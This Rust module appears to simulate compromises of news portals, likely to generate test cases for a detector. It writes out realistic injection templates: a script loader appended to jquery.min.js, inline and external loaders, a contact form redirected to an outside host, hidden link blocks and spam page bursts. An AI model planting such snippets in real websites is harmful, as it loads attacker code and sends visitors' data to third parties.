//! What attackers do. Nothing of it boasts, and no word of it is in a lexicon.

use crate::{
    chance::Chance,
    exchange::{Answer, Ask},
    news,
    portal::Portal,
};

/// One attack on one portal, from one night until it is repaired on another.
pub struct Attack {
    pub portal: usize,
    pub from: i64,
    pub repaired: i64,
    pub kind: Kind,
    /// What names it and nothing else on the portal: a host, an address, words.
    pub marks: &'static [&'static str],
}

/// The ways; what is planted says `marks[0]` unless it says otherwise.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum Kind {
    /// A visible link with harmless words in the footer of all pages.
    FooterLink(&'static str),
    /// The same in the text of one old article.
    ArticleLink(&'static str),
    /// A file that all pages load gets a few bytes more.
    ChangedLibrary,
    /// All pages load a file from a new host.
    LoaderFile,
    /// A few words of script do so.
    LoaderInline,
    /// One page, here named, says something else in another look.
    ReplacedPage(&'static str),
    /// The home page has another title.
    TitleOnly,
    /// Links that nobody sees, on all pages.
    HiddenBlock,
    /// A frame on the home page.
    Frame,
    /// What visitors write goes elsewhere.
    MovedForm,
    /// Many new pages that only the sitemap names.
    SlugBurst,
}

/// How many pages a burst has: few, for a kit that makes hundreds.
const BURST: usize = 60;
const GOODS: &[&str] = &["giay-the-thao", "tui-xach-da", "dong-ho-nam", "my-pham-han", "vay-cuoi"];

impl Kind {
    /// For the table.
    pub fn name(self) -> &'static str {
        match self {
            Self::FooterLink(_) => "link in the footer",
            Self::ArticleLink(_) => "link in an old article",
            Self::ChangedLibrary => "changed library",
            Self::LoaderFile => "new loader, a file",
            Self::LoaderInline => "new loader, inline",
            Self::ReplacedPage(_) => "replaced page",
            Self::TitleOnly => "title only",
            Self::HiddenBlock => "hidden block",
            Self::Frame => "new frame",
            Self::MovedForm => "moved form",
            Self::SlugBurst => "burst of slugs",
        }
    }
}

impl Attack {
    /// Whether it is there on a night.
    pub fn is_on(&self, night: i64) -> bool {
        (self.from..self.repaired).contains(&night)
    }

    /// Changes what is sent back; says whether it did.
    pub fn strike(
        &self,
        chance: Chance,
        portal: &Portal,
        ask: &Ask<'_>,
        answer: &mut Answer,
    ) -> bool {
        let what = self.marks[0];
        match self.kind {
            Kind::FooterLink(text) => {
                let link = format!("<a href=\"https://{what}/\">{text}</a>");
                answer.plant("</footer>", &link)
            }
            Kind::ArticleLink(text) => {
                let is_it = portal.pinned(chance).first().is_some_and(|own| own.path == ask.path);
                let link = format!("<p>Xem thêm: <a href=\"https://{what}/\">{text}</a></p>");
                is_it && answer.plant("<p class=\"anh\">", &link)
            }
            Kind::ChangedLibrary => {
                let is_it = ask.path.ends_with("/jquery.min.js") && answer.status == 200;
                if is_it {
                    answer.body += &appended(what);
                }
                is_it
            }
            Kind::LoaderFile => answer
                .plant("</head>", &format!("<script async src=\"https://{what}/w.js\"></script>")),
            Kind::LoaderInline => answer.plant(
                "</footer>",
                &format!(
                    "<script>(function(d,t){{var s=d.createElement(t);s.async=1;\
                 s.src='https://{what}/s.js';d.body.appendChild(s)}})(document,'script');</script>"
                ),
            ),
            Kind::ReplacedPage(path) => {
                let is_it = ask.path == path && answer.is_page();
                if is_it {
                    answer.body = replaced(what);
                }
                is_it
            }
            Kind::TitleOnly => ask.path == "/" && answer.retitle(what),
            Kind::HiddenBlock => answer.plant("</footer>", &hidden(self.marks)),
            Kind::Frame => ask.path == "/"
                && answer.plant(
                    "</main>",
                    &format!(
                        "<iframe src=\"https://{what}/xem\" width=\"300\" height=\"200\"></iframe>"
                    ),
                ),
            Kind::MovedForm => {
                let action = "action=\"/lien-he/gui\"";
                let is_it = answer.is_page() && answer.body.contains(action);
                answer.body =
                    answer.body.replace(action, &format!("action=\"https://{what}/gui\""));
                is_it
            }
            Kind::SlugBurst => burst(what, ask, answer),
        }
    }
}

impl Answer {
    /// Puts something before the last of a mark.
    fn plant(&mut self, mark: &str, planted: &str) -> bool {
        let place = self.is_page().then(|| self.body.rfind(mark)).flatten();
        if let Some(place) = place {
            self.body.insert_str(place, planted);
        }
        place.is_some()
    }

    fn retitle(&mut self, title: &str) -> bool {
        let Some((before, rest)) = self.body.split_once("<title>") else { return false };
        let Some((_, after)) = rest.split_once("</title>") else { return false };
        self.body = format!("{before}<title>{title}</title>{after}");
        true
    }
}

/// What is put at the end of a library.
fn appended(host: &str) -> String {
    format!(
        "\n;(function(w,d){{try{{if(!w.__st){{w.__st=1;var s=d.createElement('script');\
         s.type='text/javascript';s.async=true;s.src='https://'+'{host}'+'/t.js?r='+\
         encodeURIComponent(d.referrer);var f=d.getElementsByTagName('script')[0];\
         f.parentNode.insertBefore(s,f);}}}}catch(e){{}}}})(window,document);\n"
    )
}

/// A page of a business that has nothing to do with the portal.
fn replaced(name: &str) -> String {
    format!(
        "<!DOCTYPE html><html><head><meta charset=\"utf-8\"><title>{name}</title><style>\
         .hero{{padding:80px;background:#eef}}</style></head><body><section class=\"hero\">\
         <h1>{name}</h1><p>Không gian yên tĩnh bên hồ, phòng nghỉ rộng rãi, bữa sáng tự chọn và dịch \
         vụ đưa đón tận nơi cho gia đình bạn.</p></section><section class=\"rooms\"><h2>Hạng \
         phòng</h2><p>Phòng đơn, phòng đôi, phòng gia đình hướng vườn.</p></section></body></html>"
    )
}

fn hidden(hosts: &[&str]) -> String {
    let links: String = hosts
        .iter()
        .map(|host| format!("<a href=\"https://{host}/\">Trang tin {}</a> ", news::slug(host)))
        .collect();
    format!("<div style=\"position:absolute;left:-9999px;top:-9999px\">{links}</div>")
}

fn burst(folder: &str, ask: &Ask<'_>, answer: &mut Answer) -> bool {
    let paths = (0..BURST).map(|number| {
        format!("{folder}{}-chinh-hang-gia-tot-{number}.html", GOODS[number % GOODS.len()])
    });
    if ask.path == "/sitemap.xml" {
        let entry = |path| format!("<url><loc>{}{path}</loc></url>", ask.origin);
        let entries: String = paths.map(entry).collect();
        answer.body = answer.body.replace("</urlset>", &format!("{entries}</urlset>"));
        return true;
    }
    let Some(path) = paths.into_iter().find(|path| path == ask.path) else { return false };
    let words = path.trim_start_matches(folder).trim_end_matches(".html").replace('-', " ");
    *answer = Answer::html(format!(
        "<!DOCTYPE html><html><head><meta charset=\"utf-8\"><title>{words}</title></head><body>\
         <h1>{words}</h1><p>Hàng mới về, giao hàng toàn quốc, đổi trả trong bảy ngày.</p></body></html>"
    ));
    true
}
